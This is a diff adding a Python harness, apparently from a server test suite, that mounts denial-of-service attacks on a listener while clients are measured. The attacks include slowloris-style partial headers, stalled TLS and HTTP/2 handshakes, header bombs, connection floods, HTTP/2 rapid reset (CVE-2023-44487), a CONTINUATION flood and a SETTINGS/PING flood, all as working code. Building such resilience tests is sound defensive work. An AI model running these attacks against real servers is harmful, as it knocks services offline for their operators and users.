@@ -1,0 +1,186 @@
+"""What an attacker does to a listener, in a process of its own, so that it does not slow the clients that are measured.
+
+Run with the kind of attack, `host:port`, and how many connections. Says `ready` once all is under way, goes on until its input is
+closed, and then says in JSON what came of it.
+"""
+
+import asyncio
+import json
+import ssl
+import struct
+import sys
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HALF_HEAD = b"GET /public/x HTTP/1.1\r\nHost: a\r\nX-Slow: "
+WHOLE = b"GET /public/x HTTP/1.1\r\nHost: a\r\n\r\n"
+# A header block in static and literal fields only: :method GET, :scheme http, :path /public/x, :authority a.
+HEADERS = bytes([0x82, 0x86, 0x04, 9]) + b"/public/x" + bytes([0x01, 1]) + b"a"
+
+
+class Attack:
+    def __init__(self, kind, address, count):
+        self.kind, self.count = kind, count
+        self.host, port = address.rsplit(":", 1)
+        self.port = int(port)
+        self.tally = {"opened": 0, "ended": 0, "refused": 0}
+        self.open = set()
+
+    async def run(self):
+        one = getattr(self, self.kind)
+        workers = self.count if self.kind in ("head", "second", "hello", "preface", "idle", "silent") else 8
+        started = [asyncio.Event() for _ in range(workers)]
+        tasks = [asyncio.create_task(self.again_and_again(one, event)) for event in started]
+        for event in started:
+            await event.wait()
+        print("ready", flush=True)
+        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
+        print(json.dumps(self.tally), flush=True)
+
+    async def again_and_again(self, one, event):
+        while True:
+            try:
+                reader, writer = await asyncio.open_connection(self.host, self.port)
+            except OSError:
+                self.tally["refused"] += 1
+                event.set()
+                await asyncio.sleep(0.05)
+                continue
+            self.tally["opened"] += 1
+            try:
+                await one(reader, writer, event)
+            except (OSError, EOFError, asyncio.IncompleteReadError):
+                pass
+            finally:
+                self.tally["ended"] += 1
+                event.set()
+                writer.close()
+            if self.kind in ("idle", "silent"):
+                # Who was shown the door stays away: what is left open is what is counted.
+                await asyncio.Event().wait()
+            await asyncio.sleep(0.05)
+
+    async def until_closed(self, reader, writer, event, dribble=b""):
+        event.set()
+        while True:
+            try:
+                if not await asyncio.wait_for(reader.read(4096), 1):
+                    return
+            except TimeoutError:
+                writer.write(dribble)
+                await writer.drain()
+
+    async def head(self, reader, writer, event):
+        writer.write(HALF_HEAD)
+        await self.until_closed(reader, writer, event, b"x")
+
+    async def second(self, reader, writer, event):
+        writer.write(WHOLE)
+        await reader.readuntil(b"\r\n\r\n")
+        writer.write(HALF_HEAD)
+        await self.until_closed(reader, writer, event, b"x")
+
+    async def hello(self, reader, writer, event):
+        client, server = ssl.MemoryBIO(), ssl.MemoryBIO()
+        tls = ssl.create_default_context().wrap_bio(client, server, server_hostname="localhost")
+        try:
+            tls.do_handshake()
+        except ssl.SSLWantReadError:
+            pass
+        writer.write(server.read()[:60])
+        await self.until_closed(reader, writer, event)
+
+    async def preface(self, reader, writer, event):
+        writer.write(PREFACE[:12])
+        await self.until_closed(reader, writer, event)
+
+    async def silent(self, reader, writer, event):
+        await self.until_closed(reader, writer, event)
+
+    async def idle(self, reader, writer, event):
+        writer.write(WHOLE)
+        await reader.readuntil(b"\r\n\r\n")
+        await self.until_closed(reader, writer, event)
+
+    async def bomb(self, reader, writer, event):
+        """As many header fields as will go."""
+        event.set()
+        writer.write(b"GET /public/x HTTP/1.1\r\nHost: a\r\n")
+        for _ in range(1024):
+            writer.write(b"X-Bomb: " + b"b" * 1000 + b"\r\n")
+            await writer.drain()
+            if reader.at_eof():
+                return
+        await reader.read()
+
+    async def many(self, reader, writer, event):
+        """A million header fields of next to nothing."""
+        event.set()
+        writer.write(b"GET /public/x HTTP/1.1\r\nHost: a\r\n")
+        for _ in range(1024):
+            writer.write(b"a:\r\n" * 256)
+            await writer.drain()
+            if reader.at_eof():
+                return
+        await reader.read()
+
+    async def flood(self, reader, writer, event):
+        """Connections that are closed as soon as they are there, without the usual pause."""
+        event.set()
+        for _ in range(50):
+            _, other = await asyncio.open_connection(self.host, self.port)
+            self.tally["opened"] += 1
+            other.close()
+
+    async def reset(self, reader, writer, event):
+        """Requests that are taken back at once (CVE-2023-44487)."""
+        event.set()
+        writer.write(PREFACE + frame(4, 0, 0, b""))
+        asyncio.get_running_loop().create_task(self.swallow(reader))
+        stream = 1
+        while stream < 2**30:
+            pairs = b""
+            for _ in range(50):
+                pairs += frame(1, 0x5, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8))
+                stream += 2
+            writer.write(pairs)
+            self.tally["resets"] = self.tally.get("resets", 0) + 50
+            await writer.drain()
+            if reader.at_eof():
+                return
+
+    async def continuation(self, reader, writer, event):
+        """A header block that never ends."""
+        event.set()
+        writer.write(PREFACE + frame(4, 0, 0, b"") + frame(1, 0x1, 1, HEADERS))
+        asyncio.get_running_loop().create_task(self.swallow(reader))
+        while not reader.at_eof():
+            # A literal field without indexing, again and again.
+            writer.write(frame(9, 0, 1, b"\x00\x01x\x7f\x81\x07" + b"y" * 1024) * 4)
+            await writer.drain()
+
+    async def settings(self, reader, writer, event):
+        """SETTINGS and PING, each of which wants an answer."""
+        event.set()
+        writer.write(PREFACE + frame(4, 0, 0, b""))
+        asyncio.get_running_loop().create_task(self.swallow(reader))
+        while not reader.at_eof():
+            writer.write((frame(4, 0, 0, b"") + frame(6, 0, 0, b"pingpong")) * 50)
+            await writer.drain()
+
+    async def swallow(self, reader):
+        try:
+            while await reader.read(65536):
+                pass
+        except OSError:
+            pass
+
+
+def frame(kind, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+if __name__ == "__main__":
+    asyncio.run(Attack(sys.argv[1], sys.argv[2], int(sys.argv[3])).run())
